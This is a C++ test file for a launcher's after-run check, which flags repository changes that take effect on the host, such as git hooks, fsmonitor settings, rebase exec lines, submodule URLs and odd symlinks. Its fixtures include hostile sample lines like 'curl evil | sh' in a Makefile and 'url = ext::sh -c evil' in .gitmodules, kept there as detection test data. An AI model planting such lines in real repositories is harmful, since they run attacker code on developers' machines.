// What a run leaves that takes effect on the host: found by name, by kind of object, by change; and what `exec` says of
// it.
#include "launcher/after_run.h"

#include <fcntl.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>

#include "tests/launcher/scratch.h"

namespace oncelatch::launcher {
namespace {

using ::testing::AllOf;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;

class AfterRunWalk : public ::testing::Test {
 protected:
  void SetUp() override {
    for (const char* name : {"repository/.git", "repository/.git/hooks", "repository/src"})
      ASSERT_EQ(::mkdir(scratch.path(name).c_str(), 0755), 0);
    scratch.write("repository/.git/config", "[core]\n", 0644);
    scratch.write("repository/Makefile", "all:\n\ttrue\n", 0644);
    scratch.write("repository/src/main.c", "int main;\n", 0644);
    Result<AfterRun> begun = AfterRun::begin({{scratch.path("repository")}});
    ASSERT_TRUE(begun) << begun.error().message();
    watch.emplace(std::move(*begun));
  }
  // "GUARD KIND PATH CHANGE LINE"
  std::vector<std::string> seen() {
    report = watch->end();
    std::vector<std::string> all;
    for (const HostEffect& one : report.effects)
      all.push_back(one.guard + " " + one.kind + " " + one.path.substr(scratch.path("repository/").size()) + " " +
                    one.change + " " + one.line);
    return all;
  }
  test::Scratch scratch;
  std::optional<AfterRun> watch;
  AfterRunReport report;
};

TEST_F(AfterRunWalk, OrdinaryWorkIsNothing) {
  scratch.write("repository/src/main.c", "int main(void) { return 0; }\n", 0644);
  scratch.write("repository/.git/index", "x", 0644);
  scratch.write("repository/.git/hooks/pre-push.sample", "x", 0755);
  scratch.write("repository/a.out", "x", 0755);
  ::symlink("../Makefile", scratch.path("repository/src/link").c_str());
  EXPECT_THAT(seen(), IsEmpty());
  EXPECT_TRUE(report.complete);
}

TEST_F(AfterRunWalk, TellsWhatIsNewAndTheLineThatMatters) {
  scratch.write("repository/.git/config", "[core]\n\tfsmonitor = ./x\n", 0644);
  scratch.write("repository/.git/hooks/pre-commit", "\n#!/bin/sh\n", 0755);
  scratch.write("repository/Makefile", "all:\n\ttrue\n\tcurl evil | sh\n", 0644);
  EXPECT_THAT(seen(), ElementsAre("refused git .git/config changed \\tfsmonitor = ./x",
                                  "refused git .git/hooks/pre-commit new #!/bin/sh",
                                  "reported build Makefile changed \\tcurl evil | sh"));
}

// A paused rebase, here and in a linked worktree: of its lines the one that runs something.
TEST_F(AfterRunWalk, APausedRebaseWithAnExecLine) {
  for (const char* place : {".git/rebase-merge", ".git/worktrees/w/rebase-merge"}) {
    std::filesystem::create_directories(scratch.path(std::string("repository/") + place));
    scratch.write(std::string("repository/") + place + "/git-rebase-todo", "pick 1234 a\nexec ./evil\npick 5678 b\n",
                  0644);
  }
  EXPECT_THAT(seen(), ElementsAre("reported git .git/rebase-merge/git-rebase-todo new exec ./evil",
                                  "reported git .git/worktrees/w/rebase-merge/git-rebase-todo new exec ./evil"));
  EXPECT_EQ(report.effects[0].line_number, 2U);
}

// The repository of a linked worktree lies elsewhere, and may be called anything.
TEST_F(AfterRunWalk, NamesInARepositoryOutsideAreGits) {
  for (const char* name :
       {"outside", "outside/worktrees", "outside/worktrees/fix", "outside/worktrees/fix/rebase-merge"})
    ASSERT_EQ(::mkdir(scratch.path(name).c_str(), 0755), 0);
  const Result<AfterRun> begun = AfterRun::begin({{scratch.path("outside"), true}});
  ASSERT_TRUE(begun);
  scratch.write("outside/worktrees/fix/rebase-merge/git-rebase-todo", "pick 1 a\nexec evil\n", 0644);
  scratch.write("outside/worktrees/fix/rebase-merge/head-name", "refs/heads/main\n", 0644);
  scratch.write("outside/MERGE_HEAD", "1\n", 0644);
  scratch.write("outside/index", "x", 0644);
  std::vector<std::string> told;
  for (const HostEffect& one : begun->end().effects)
    told.push_back(one.guard + " " + one.path.substr(scratch.path("outside/").size()) + " " + one.line);
  EXPECT_THAT(told,
              ElementsAre("reported MERGE_HEAD 1", "reported worktrees/fix/rebase-merge/git-rebase-todo exec evil",
                          "reported worktrees/fix/rebase-merge/head-name refs/heads/main"));
}

TEST_F(AfterRunWalk, ASubmoduleThatComesFromElsewhere) {
  scratch.write("repository/.gitmodules", "[submodule \"a\"]\n\tpath = a\n\turl = ext::sh -c evil\n", 0644);
  EXPECT_THAT(seen(), ElementsAre("held git .gitmodules new \\turl = ext::sh -c evil"));
  EXPECT_EQ(report.effects[0].line_number, 3U);
}

TEST_F(AfterRunWalk, ANewRepositoryIsToldOnce) {
  std::filesystem::create_directories(scratch.path("repository/deep/er/.git/hooks"));
  scratch.write("repository/deep/er/.git/config", "[core]\n", 0644);
  EXPECT_THAT(seen(), ElementsAre("refused git deep/er/.git new "));
}

// A name that is a directory's stands for no graver one below it, and a mode is no content.
TEST_F(AfterRunWalk, WhatLiesInADirectoryWithANameIsToldToo) {
  std::filesystem::create_directories(scratch.path("repository/BUILD/.git/hooks"));
  scratch.write("repository/BUILD/.git/hooks/pre-commit", "#!/bin/sh\n", 0755);
  scratch.write("repository/src/.claude/skills/foo/.git/config", "[core]\n", 0644);
  const std::vector<std::string> all = seen();
  EXPECT_THAT(all, ::testing::Contains("reported build BUILD new "));
  EXPECT_THAT(all, ::testing::Contains("refused git BUILD/.git new "));
  EXPECT_THAT(all, ::testing::Contains(::testing::StartsWith("refused git src/.claude/skills/foo/.git new")));
}

// What lies behind it has the names, too.
TEST_F(AfterRunWalk, LinksInPlaceOfNamedDirectories) {
  ::symlink("src", scratch.path("repository/.husky").c_str());
  ::symlink("src", scratch.path("repository/.claude").c_str());
  std::filesystem::create_directories(scratch.path("repository/.github"));
  ::symlink("../src", scratch.path("repository/.github/workflows").c_str());
  EXPECT_THAT(seen(), ElementsAre("refused agent .claude new src", "held ci .github/workflows new ../src",
                                  "refused hooks .husky new src"));
}

TEST_F(AfterRunWalk, LinksAmongGitsOwnFiles) {
  std::filesystem::create_directories(scratch.path("repository/.git/logs"));
  ::symlink("../../home/x", scratch.path("repository/.git/logs/HEAD").c_str());
  ::symlink("x", scratch.path("repository/.git/FETCH_HEAD").c_str());
  EXPECT_THAT(seen(), ElementsAre("refused git .git/FETCH_HEAD new x", "refused git .git/logs/HEAD new ../../home/x"));
}

// The kernel's own time of change can't be set, so neither the old size nor the old time hides it.
TEST_F(AfterRunWalk, AChangeOfTheSameSizeAndTime) {
  struct stat before {};
  ASSERT_EQ(::stat(scratch.path("repository/Makefile").c_str(), &before), 0);
  Fd file(::open(scratch.path("repository/Makefile").c_str(), O_WRONLY | O_CLOEXEC));
  ASSERT_EQ(::pwrite(file.get(), "evil", 4, 0), 4);
  const timespec times[] = {before.st_atim, before.st_mtim};
  ASSERT_EQ(::futimens(file.get(), times), 0);
  EXPECT_THAT(seen(), ElementsAre("reported build Makefile changed evil"));
}

TEST_F(AfterRunWalk, ReplacedByRename) {
  scratch.write("repository/x", "all:\n\ttrue\n", 0644);
  ASSERT_EQ(::rename(scratch.path("repository/x").c_str(), scratch.path("repository/Makefile").c_str()), 0);
  EXPECT_THAT(seen(), ElementsAre("reported build Makefile changed "));
  std::filesystem::create_directory(scratch.path("repository/y"));
  scratch.write("repository/y/tasks.json", "{}\n", 0644);
  ASSERT_EQ(::rename(scratch.path("repository/y").c_str(), scratch.path("repository/.vscode").c_str()), 0);
  EXPECT_THAT(seen(), ::testing::Contains("refused editor .vscode/tasks.json new {}"));
}

TEST_F(AfterRunWalk, LinksAndSpecialFilesAndProgramNames) {
  ::symlink("/etc/passwd", scratch.path("repository/absolute").c_str());
  ::symlink("../../home", scratch.path("repository/src/above").c_str());
  ::symlink("src/../src/main.c", scratch.path("repository/inside").c_str());
  ASSERT_EQ(::mkfifo(scratch.path("repository/pipe").c_str(), 0600), 0);
  scratch.write("repository/src/ls", "#!/bin/sh\necho \x1b[31m\n", 0755);
  scratch.write("repository/setid", "x", 0644);
  ASSERT_EQ(::chmod(scratch.path("repository/setid").c_str(), 04755), 0);
  EXPECT_THAT(seen(),
              ElementsAre("reported link absolute new /etc/passwd", "reported link inside new src/../src/main.c",
                          "reported special pipe new ", "reported special setid new x",
                          "reported link src/above new ../../home", "reported program src/ls new #!/bin/sh"));
}

TEST_F(AfterRunWalk, WhatCantBeLookedAtIsNotCalledClean) {
  std::filesystem::create_directories(scratch.path("repository/closed"));
  if (::geteuid() != 0) {
    ASSERT_EQ(::chmod(scratch.path("repository/closed").c_str(), 0), 0);
  } else {
    std::string deep = scratch.path("repository/closed");
    std::string name(200, 'd');
    Fd at(::open(deep.c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC));
    for (int i = 0; i < 12; ++i) {
      ASSERT_EQ(::mkdirat(at.get(), name.c_str(), 0700), 0);
      at = Fd(::openat(at.get(), name.c_str(), O_RDONLY | O_DIRECTORY | O_CLOEXEC));
    }
  }
  EXPECT_THAT(seen(), IsEmpty());
  EXPECT_FALSE(report.complete);
  ::chmod(scratch.path("repository/closed").c_str(), 0700);
}

TEST_F(AfterRunWalk, AMissingDirectoryIsAnError) {
  Result<AfterRun> none = AfterRun::begin({{scratch.path("absent")}});
  ASSERT_FALSE(none);
  EXPECT_EQ(none.error().errno_value, ENOENT);
}

TEST(AfterRunKinds, AreKnownByName) {
  for (const char* kind : {"any", "refused", "held", "reported", "git", "hooks", "agent", "editor", "shell", "ci",
                           "build", "package", "link", "special", "program"})
    EXPECT_TRUE(is_effect_kind(kind)) << kind;
  for (const char* kind : {"", "gti", "all", "Git"}) EXPECT_FALSE(is_effect_kind(kind)) << kind;
}

// E029, E031, E041 to E043: what can be made inside is told, and --fail-on makes it count.
class AfterRunExec : public ::testing::TestWithParam<uid_t> {
 protected:
  [[nodiscard]] Output run(std::vector<std::string> options, const std::string& script) const {
    options.insert(options.begin(), "exec");
    options.insert(options.end(), {"--report", scratch.path("report.json"), "--", "sh", "-c", script});
    return scratch.oncelatch(options);
  }
  test::Scratch scratch{GetParam()};
};

TEST_P(AfterRunExec, FailsOnWhatWasNamed) {
  const std::string script = "mkdir -p .vscode; echo '{}' > .vscode/notes.json; echo 'evil 1' > .tool-versions; exit 3";
  Output told = run({}, script);
  EXPECT_EQ(told.status.shell_code(), 3);
  EXPECT_THAT(told.err, AllOf(HasSubstr("after the run: 2 changes take effect outside later"),
                              HasSubstr(".tool-versions (new): asdf and mise choose"), HasSubstr("evil 1")));
  Output failed = run({"--fail-on", "ci", "--fail-on", "shell"}, "echo 'evil 2' > .tool-versions; exit 3");
  EXPECT_EQ(failed.status.shell_code(), 123) << failed.err;
  const Json report = scratch.report();
  EXPECT_EQ(report.at("exit").at("code"), 123);
  EXPECT_EQ(report.at("exit").at("reason"), "findings");
  EXPECT_EQ(report.at("host_effects_complete"), true);
  ASSERT_EQ(report.at("host_effects").size(), 1U);
  EXPECT_EQ(report.at("host_effects")[0].at("path"), scratch.path("repository/.tool-versions"));
  EXPECT_EQ(report.at("host_effects")[0].at("line"), "evil 2");
  Output other = run({"--fail-on", "git"}, "echo x > Makefile");
  EXPECT_EQ(other.status.shell_code(), 0) << other.err;
  EXPECT_THAT(run({"--fail-on", "any"}, "echo x > notes").err, IsEmpty());
}

TEST_P(AfterRunExec, WhatIsHiddenIsNotCalledClean) {
  Output output = run({"--fail-on", "git"},
                      "d=$(printf '%0200d' 0); i=0; mkdir closed; cd closed; "
                      "while [ $i -lt 12 ]; do mkdir $d && cd $d; i=$((i+1)); done; chmod 0 .; echo done");
  EXPECT_EQ(output.out, "done\n");
  EXPECT_EQ(output.status.shell_code(), 123) << output.err;
  EXPECT_THAT(output.err, HasSubstr("nothing says that the rest is clean"));
  EXPECT_EQ(scratch.report().at("host_effects_complete"), false);
}

TEST_P(AfterRunExec, HostileNamesAreEscaped) {
  Output output =
      run({"--fail-on", "any"},
          "mkdir \"$(printf 'a\\n::error::\\033[31m')\" && cd a* && printf 'x\\033]0;t\\007' > .tool-versions");
  EXPECT_EQ(output.status.shell_code(), 123) << output.err;
  EXPECT_THAT(output.err, AllOf(Not(HasSubstr("\x1b")), Not(HasSubstr("\n::error")), HasSubstr("\\x1b")));
}

TEST_P(AfterRunExec, AnUnknownKindIsRefused) {
  Output output = run({"--fail-on", "gti"}, "echo RAN");
  EXPECT_EQ(output.status.shell_code(), 122);
  EXPECT_EQ(output.out, "");
  EXPECT_THAT(output.err, HasSubstr("git, hooks, agent"));
}

INSTANTIATE_TEST_SUITE_P(Users, AfterRunExec, ::testing::ValuesIn(test::users()), [](const auto& one) {
  return one.param == 0 ? std::string("Root") : std::string("OrdinaryUser");
});

}  // namespace
}  // namespace oncelatch::launcher
